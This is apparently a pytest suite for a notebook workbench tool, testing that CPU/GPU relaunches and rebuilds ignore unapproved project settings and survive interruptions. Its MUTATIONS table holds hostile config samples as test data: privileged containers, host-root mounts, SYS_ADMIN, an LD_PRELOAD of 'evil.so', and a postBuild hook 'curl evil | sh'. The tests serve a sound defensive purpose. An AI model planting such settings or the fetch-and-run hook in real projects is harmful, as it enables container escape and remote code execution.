"""A workbench in its own place again: from what was approved, and with the old one back when it fails."""

from contextlib import suppress
from dataclasses import replace

import pytest

from tests.agent.conftest import MakeGround
from tests.agent.ground import SECRET, WITHOUT_GPU, Engine, Ground, Silent
from workbench import approved
from workbench.engines.base import NoGpu
from workbench.errors import EngineError, NoEngineError, ProjectError, WorkbenchError
from workbench.labels import GPUS, PLAN
from workbench.model import ContainerRun, Device
from workbench.relaunch import check_device, relaunch

HAPPY = ["stopping", "starting"]
FOLLOWS = ("NVIDIA_VISIBLE_DEVICES", "NVIDIA_DRIVER_CAPABILITIES")
VOID = {"NVIDIA_VISIBLE_DEVICES": "void"}


def test_to_the_gpu_and_back(ground: Ground) -> None:
    ui = Silent()
    before = ground.env()
    assert ground.first.gpus == "all" and ground.first.device == "cpu"
    relaunch(ground.engine, ground.state, ui, ground.environ, device="cpu")
    without = ground.is_the_same("cpu")
    assert without.gpus == ""
    relaunch(ground.engine, ground.state, ui, ground.environ, device="gpu")
    again = ground.is_the_same("gpu")
    assert again.gpus == "all"
    assert ui.phases == HAPPY * 2
    assert ground.engine.deliveries[again.id].returning
    changed = {name for name in before.keys() | ground.env().keys() if before.get(name) != ground.env().get(name)}
    assert changed == {"WORKBENCH_DEVICE"}


def test_the_gpus_of_the_launch_come_back(make_ground: MakeGround) -> None:
    ground = make_ground(device="gpu:0")
    relaunch(ground.engine, ground.state, Silent(), ground.environ, device="cpu")
    relaunch(ground.engine, ground.state, Silent(), ground.environ, device="gpu")
    assert ground.is_the_same("gpu:0").gpus == "0"


def test_a_chosen_device_is_what_the_next_launch_starts(ground: Ground) -> None:
    relaunch(ground.engine, ground.state, Silent(), ground.environ, device="gpu")
    flags = dict(ground.request.flags)
    assert ground.planned().digest == ground.now().plan
    assert ground.planned(**flags, device="cpu").run.device == "cpu"
    toml = ground.root / "pyproject.toml"
    toml.write_text(toml.read_text() + 'device = "cpu"\n')
    assert ground.planned().run.device == "cpu"


TABLE = "[tool.workbench]\n"
MUTATIONS = {
    "privileged": ("pyproject.toml", f"{TABLE}privileged = true\n"),
    "the host's network": ("pyproject.toml", f"{TABLE}host-network = true\n"),
    "a capability": ("pyproject.toml", f'{TABLE}cap-add = ["SYS_ADMIN"]\n'),
    "a device": ("pyproject.toml", f'{TABLE}devices = ["/dev/kmsg"]\n'),
    "the root as a mount": ("pyproject.toml", f'{TABLE}mounts = ["/:/host"]\n'),
    "a home as a mount": ("pyproject.toml", f'{TABLE}mounts = ["~:/home/theirs:ro"]\n'),
    "an image": ("pyproject.toml", f'{TABLE}image = "evil:latest"\n'),
    "an image as it is": ("pyproject.toml", f'{TABLE}image = "evil:latest"\nas-is = true\n'),
    "a base image": ("pyproject.toml", f'{TABLE}base-image = "evil:latest"\n'),
    "a variable": ("pyproject.toml", f'{TABLE}env = {{LD_PRELOAD = "/projects/tides/evil.so"}}\n'),
    "a passed variable": ("pyproject.toml", f'{TABLE}pass-env = ["HOME"]\n'),
    "more memory": ("pyproject.toml", f'{TABLE}memory = "900g"\n'),
    "another port": ("pyproject.toml", f"{TABLE}port = 80\n"),
    "another engine": ("pyproject.toml", f'{TABLE}engine = "local"\n'),
    "another device": ("pyproject.toml", f'{TABLE}device = "gpu:0"\n'),
    "packages of a device": ("pyproject.toml", f'{TABLE}cpu.packages = ["evil"]\n'),
    "broken TOML": ("pyproject.toml", "[tool.workbench\n"),
    "a volume of dockerutils": ("docker/dockerutils.cfg", "[notebook]\nvolumes = -v /:/host --privileged\n"),
    "a network of dockerutils": ("docker/dockerutils.cfg", "[notebook]\nnetwork = host\n"),
    "a Dockerfile": ("docker/notebook/Dockerfile", "FROM evil\nUSER root\n"),
    "system packages": ("apt.txt", "evil\n"),
    "a hook": ("postBuild", "curl evil | sh\n"),
    "another Python": (".python-version", "3.14\n"),
    "settings of their own": ("workbench.toml", "privileged = true\n"),
}


@pytest.mark.parametrize(("file", "text"), MUTATIONS.values(), ids=MUTATIONS)
def test_what_was_not_approved_has_no_effect_on_a_change_of_the_device(ground: Ground, file: str, text: str) -> None:
    (ground.root / file).parent.mkdir(parents=True, exist_ok=True)
    (ground.root / file).write_text(text)
    relaunch(ground.engine, ground.state, Silent(), ground.environ, device="cpu")
    first, now = (call[1] for call in ground.engine.calls if call[0] == "start")
    assert isinstance(first, ContainerRun) and isinstance(now, ContainerRun)
    assert now == replace(
        first,
        device="cpu",
        gpu_form=None,
        env={name: value for name, value in first.env.items() if name not in ("WORKBENCH_GPUS", *FOLLOWS)} | VOID,
        labels={name: value for name, value in first.labels.items() if name != GPUS} | {PLAN: now.labels[PLAN]},
    )
    assert [call[0] for call in ground.engine.calls].count("provide") == 2
    assert len({call[1].digest for call in ground.engine.calls if call[0] == "provide"}) == 1  # type: ignore[attr-defined]
    assert ground.engine.deliveries[ground.now().id].env == {"PASSWORD": SECRET}


def test_a_rebuild_takes_new_packages_and_no_new_settings(ground: Ground) -> None:
    (ground.root / "requirements.txt").write_text("iniconfig==2.1.0\n")
    (ground.root / "pyproject.toml").write_text('[tool.workbench]\nprivileged = true\nmemory = "1g"\n')
    (ground.root / "apt.txt").write_text("evil\n")
    relaunch(ground.engine, ground.state, Silent(), ground.environ, rebuild=True)
    build = [call[1] for call in ground.engine.calls if call[0] == "provide"][-1]
    assert build.files["dependencies/requirements.txt"] == b"iniconfig==2.1.0\n"  # type: ignore[attr-defined]
    assert build.files["apt.txt"] == b"tree\n" and not build.force  # type: ignore[attr-defined]
    started = [call[1] for call in ground.engine.calls if call[0] == "start"][-1]
    assert not started.privileged and started.memory == 3 << 30  # type: ignore[attr-defined]


def test_a_rebuild_without_a_change_builds_all_the_same(ground: Ground) -> None:
    relaunch(ground.engine, ground.state, Silent(), ground.environ, rebuild=True)
    assert [call[1] for call in ground.engine.calls if call[0] == "provide"][-1].force  # type: ignore[attr-defined]
    ground.is_the_same("cpu")


def test_what_a_broken_package_list_says_is_told_and_nothing_is_touched(ground: Ground) -> None:
    (ground.root / "requirements.txt").write_text("-r missing.txt\n")
    with pytest.raises(ProjectError, match=r"missing\.txt"):
        relaunch(ground.engine, ground.state, Silent(), ground.environ, rebuild=True)
    assert ground.now() == ground.first


def test_a_gpu_that_cannot_be_had_is_refused_before_anything_is_touched(make_ground: MakeGround) -> None:
    ground = make_ground(WITHOUT_GPU)
    with pytest.raises(EngineError, match="NVIDIA") as refused:
        check_device(ground.engine, ground.state, "gpu", ground.environ)
    assert refused.value.hint
    with pytest.raises(EngineError, match="NVIDIA"):
        relaunch(ground.engine, ground.state, Silent(), ground.environ, device="gpu")
    assert ground.now() == ground.first


def test_a_gpu_that_the_engine_refuses_leaves_the_old_one(ground: Ground) -> None:
    ui = Silent()
    ground.engine.fail["start"] = NoGpu("No GPU is left.", "Wait.")
    with pytest.raises(NoGpu) as refused:
        relaunch(ground.engine, ground.state, ui, ground.environ, device="gpu")
    assert refused.value.hint == "Wait. The workbench runs again as it was before."
    assert ui.phases == [*HAPPY, "restoring"]
    assert ground.is_the_same("cpu").gpus == "all"
    kept = approved.read(ground.state)
    assert kept is not None and kept.device == Device("auto")
    # Tabs wait for this one as they would have for the other.
    assert ground.engine.deliveries[ground.now().id].returning


def test_what_was_started_by_nobody_knows_what_cannot_be_replaced(ground: Ground) -> None:
    ground.state.drop(approved.FILE)
    with pytest.raises(ProjectError) as unknown:
        relaunch(ground.engine, ground.state, Silent(), ground.environ, device="gpu")
    assert "run-notebook --restart" in unknown.value.hint
    assert ground.now() == ground.first


def test_one_that_was_stopped_meanwhile_stays_stopped(ground: Ground) -> None:
    ground.engine.stop(ground.first.id)
    with pytest.raises(EngineError, match="does not run"):
        relaunch(ground.engine, ground.state, Silent(), ground.environ, device="gpu")
    assert ground.now().state == "stopped"


class Leaving(Engine):
    """An engine that goes away with the n-th call: to what is left behind, as if the caller was killed there."""

    calls_left: int | None = None

    def _called(self, method: str, argument: object = None) -> None:
        super()._called(method, argument)
        if self.calls_left is not None:
            self.calls_left -= 1
            if self.calls_left < 0:
                raise NoEngineError("Gone.", "Start it.")


@pytest.mark.parametrize("moment", range(20))
def test_killed_at_any_moment_leaves_exactly_one(make_ground: MakeGround, moment: int) -> None:
    ground = make_ground(kind=Leaving)
    engine = ground.engine
    assert isinstance(engine, Leaving)
    engine.calls_left = moment
    with suppress(WorkbenchError):
        relaunch(engine, ground.state, Silent(), ground.environ, device="gpu")
    struck, engine.calls_left = engine.calls_left < 0, None
    ground.next_launch()
    now = ground.is_the_same(ground.now().device)
    assert struck or now.device == "gpu"
    kept = approved.read(ground.state)
    assert kept is not None and str(kept.device) == ("gpu" if now.device == "gpu" else "auto")


def test_the_moments_are_all_there_are(ground: Ground) -> None:
    before = len(ground.engine.calls)
    relaunch(ground.engine, ground.state, Silent(), ground.environ, device="gpu")
    assert 10 <= len(ground.engine.calls) - before <= 20
